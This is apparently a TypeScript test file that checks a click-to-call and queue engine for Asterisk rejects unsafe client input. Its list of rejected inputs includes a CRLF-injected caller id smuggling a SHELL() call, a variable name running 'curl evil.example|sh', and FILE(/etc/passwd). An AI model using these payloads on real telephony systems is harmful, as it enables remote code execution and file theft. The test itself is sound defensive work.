/**
 * Issue 8 item 6: nothing reaches Asterisk as sent by a client unless it is of a safe form:
 * channel variable names `[A-Za-z_][A-Za-z0-9_]*` (no dialplan functions such as SHELL(),
 * FILE(), CALLERID()), a bounded number and size of variables, caller ids without control
 * characters, and no control character in any definition string (musicClass, sounds...).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { resolveConfigFile } from '../../src/config.js';
import { KEYS, TEST_AUTH } from '../api/httpClient.js';
import { type SecureEngine, startSecureEngine } from './secureEngine.js';

let e: SecureEngine;
beforeEach(async () => {
  e = await startSecureEngine({ ...TEST_AUTH, destinationAllowList: ['_1XXX'], limits: { maxVariables: 20 } });
});
afterEach(async () => {
  await e.close();
});

const many = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`V${i}`, 'x']));

describe('click-to-call input', () => {
  it('refuses function calls as variable names, too many or too large variables, and CRLF in caller ids', async () => {
    e.h.sim.setEndpoint('PJSIP/1001', { kind: 'answer', ringMs: 100 });
    await e.h.engine.agents.login('1001', { by: 'test' });
    const bad = [
      { callerId: 'Joe <1001>\r\nVariable: SHELL(id)' },
      { callerId: 'x\u0000y' },
      { variables: { 'SHELL(curl evil.example|sh)': '1' } },
      { variables: { 'FILE(/etc/passwd)': '1' } },
      { variables: { 'CALLERID(num)': '0900123456' } },
      { variables: { '1ABC': '1' } },
      { variables: { ACCOUNT: 'a\r\nb' } },
      { variables: { ACCOUNT: 'x'.repeat(5_000) } },
      { variables: many(10_000) },
      { variables: many(21) },
    ];
    for (const body of bad) {
      const res = await e.http('POST', '/originate/1001/1003', { key: KEYS.agent1001, body });
      expect(res, JSON.stringify(body).slice(0, 80)).toMatchObject({ status: 400, body: { code: 'validation' } });
      expect(res.text.length).toBeLessThan(1_000);
    }
    expect(e.h.sim.channels()).toEqual([]);
    const ok = await e.http('POST', '/originate/1001/1003', { key: KEYS.agent1001, body: { callerId: '"Sales" <1001>', variables: { ACCOUNT: '42', _INHERITED: 'y' } } });
    expect(ok.status, ok.text).toBe(200);
  });
});

describe('definitions', () => {
  it('refuses control characters in musicClass and every other definition string', async () => {
    expect(await e.http('POST', '/api/queues', { key: KEYS.admin, body: { id: 'q1', musicClass: 'default\r\nx' } })).toMatchObject({ status: 400, body: { code: 'validation' } });
    expect(await e.h.store.getQueue('q1')).toBeUndefined();
    expect(() => resolveConfigFile({ queues: [{ id: 'q', musicClass: 'a b;c' }] })).toThrow(/queues\[0\]\.musicClass/);
    expect(() => resolveConfigFile({ queues: [{ id: 'q', name: 'Sales\nFloor' }] })).toThrow(/queues\[0\]\.name/);
    expect(() => resolveConfigFile({ queues: [{ id: 'q', periodic: { sounds: ['queue-thankyou\r\n'], frequencyS: 30 } }] })).toThrow(/queues\[0\]\.periodic\.sounds\[0\]/);
  });
});
